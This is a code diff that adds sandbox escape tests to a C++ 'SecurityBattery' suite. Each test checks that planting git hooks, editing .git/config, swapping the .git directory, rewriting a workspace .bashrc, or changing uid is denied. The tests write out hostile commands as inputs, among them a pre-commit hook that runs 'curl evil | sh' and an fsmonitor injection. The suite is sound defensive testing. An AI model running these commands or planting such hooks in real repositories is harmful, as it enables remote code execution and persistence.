@@ -110,6 +110,8 @@ class SecurityBattery : public ::testing::Test {
     std::ofstream(home_ / ".bashrc") << "# original\n";
     std::ofstream(home_ / "readable.txt") << "public";
     std::ofstream(ws_ / ".git" / "hooks" / "pre-commit.sample") << "#!/bin/sh\n";
+    std::ofstream(ws_ / ".git" / "config") << "[core]\n";
+    std::ofstream(ws_ / ".bashrc") << "# workspace rc\n";
     std::ofstream(ws_ / "inside.txt") << "inside";
     std::ofstream(outside_ / "secret.txt") << "OUTSIDE-SECRET";
     if (const char* h = std::getenv("HOME")) saved_home_ = h;
@@ -237,6 +239,46 @@ TEST_F(SecurityBattery, ReadOtherPartsOfTheSystem) {
 TEST_F(SecurityBattery, ListSharedTmp) {
   auto r = attack({"list", "/tmp"});
   EXPECT_EQ(first_line(r.stdout_data), "EACCES");
+}
+
+TEST_F(SecurityBattery, WriteGitHooks) {
+  auto plant = shell("echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+  EXPECT_NE(plant.exit_code, 0);
+  EXPECT_NE(plant.stderr_data.find("Read-only file system"), std::string::npos) << plant.stderr_data;
+  EXPECT_FALSE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit"));
+  auto overwrite = attack({"write", (ws_ / ".git" / "hooks" / "pre-commit.sample").string()});
+  EXPECT_EQ(first_line(overwrite.stdout_data), "EROFS");
+  // The rest of .git stays writable: git itself must work in the workspace.
+  auto object = attack({"write", (ws_ / ".git" / "objects-probe").string()});
+  EXPECT_EQ(first_line(object.stdout_data), "OK");
+  fs::remove(ws_ / ".git" / "objects-probe");
+}
+
+TEST_F(SecurityBattery, WriteGitConfig) {
+  auto r = shell("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_EQ(slurp(ws_ / ".git" / "config"), "[core]\n");
+}
+
+TEST_F(SecurityBattery, SwapGitDirectory) {
+  auto r = shell("mv .git .git-old || rm -rf .git/hooks");
+  EXPECT_NE(r.exit_code, 0);
+  EXPECT_TRUE(fs::exists(ws_ / ".git" / "hooks" / "pre-commit.sample"));
+  EXPECT_FALSE(fs::exists(ws_ / ".git-old"));
+}
+
+TEST_F(SecurityBattery, WriteRcFileInWorkspace) {
+  auto append = attack({"write", (ws_ / ".bashrc").string()});
+  EXPECT_EQ(first_line(append.stdout_data), "EROFS");
+  auto replace = shell("rm -f .bashrc || mv .bashrc .bashrc.old");
+  EXPECT_NE(replace.exit_code, 0);
+  EXPECT_EQ(slurp(ws_ / ".bashrc"), "# workspace rc\n");
+}
+
+TEST_F(SecurityBattery, ProtectiveMountsStayPrivate) {
+  auto r = shell("true");
+  EXPECT_TRUE(r.success());
+  EXPECT_EQ(slurp("/proc/self/mountinfo").find(ws_.string()), std::string::npos);
 }
 
 TEST_F(SecurityBattery, SymlinkToSecretEscape) {
@@ -462,9 +504,15 @@ TEST_F(SecurityBattery, CapabilitiesAreGone) {
   auto r = attack({"caps"});
   EXPECT_EQ(first_line(r.stdout_data), "eff=000000000 prm=000000000 inh=000000000 bounding=0 ambient=0 nnp=1")
       << r.stdout_data;
-  EXPECT_EQ(first_line(attack({"setuid"}).stdout_data), "EPERM");
+  const std::string other_uid = ::getuid() == 65534 ? "65533" : "65534";
+  // EINVAL instead of EPERM when the workspace needed a user namespace (unprivileged kernel process):
+  // the other uid is not even mapped there.
+  auto denied = [](const std::string& out) { return first_line(out) == "EPERM" || first_line(out) == "EINVAL"; };
+  auto setuid = attack({"setuid", other_uid});
+  EXPECT_TRUE(denied(setuid.stdout_data)) << setuid.stdout_data;
   std::ofstream(ws_ / "owned.txt") << "x";
-  EXPECT_EQ(first_line(attack({"chown", (ws_ / "owned.txt").string()}).stdout_data), "EPERM");
+  auto chown = attack({"chown", (ws_ / "owned.txt").string(), other_uid});
+  EXPECT_TRUE(denied(chown.stdout_data)) << chown.stdout_data;
 }
 
 TEST_F(SecurityBattery, SetuidBinary) {
